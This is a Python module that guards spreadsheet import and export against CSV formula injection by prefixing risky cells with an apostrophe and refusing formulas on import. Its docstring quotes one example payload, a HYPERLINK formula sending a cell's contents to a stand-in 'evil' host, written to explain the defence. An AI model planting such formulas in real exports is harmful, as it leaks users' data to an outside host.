"""One cell's text on its way in or out: formula-injection guard, formulas, masked values.

A spreadsheet program runs a cell that starts with = + - @ (or a tab / carriage return followed by
one) as a formula, e.g. =HYPERLINK("http://evil/?"&A1). Exports therefore prefix such cells with an
apostrophe (OWASP "CSV injection"). On import the apostrophe is taken off again, so our own exports
round-trip, and a bare formula is refused: it is never stored.
"""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def escape(value):
    """The exported text of a cell, safe to open in Excel / WPS / LibreOffice."""
    text = "" if value is None else str(value)
    if text.startswith(TRIGGERS):
        return "'" + text
    return text


class FormulaError(ValueError):
    pass


def unescape(text):
    """The stored text of an imported cell (already a str, stripped by the caller).

    Raises FormulaError for a formula; an apostrophe-escaped cell is plain text again.
    """
    if text.startswith("'") and text[1:2] and text[1:].startswith(TRIGGERS):
        return text[1:]
    if text.startswith("="):
        raise FormulaError("单元格是公式（以“=”开头），不能导入；请改为纯文本，或在前面加英文单引号 '。")
    return text


def looks_masked(text):
    """An exported value masked for privacy (5001**********123X, 138****5678) cannot be imported."""
    return "**" in text


def trimmed(values):
    """A row's values without the empty cells at its right end (spreadsheet programs write those)."""
    while values and values[-1] == "":
        values.pop()
    return values
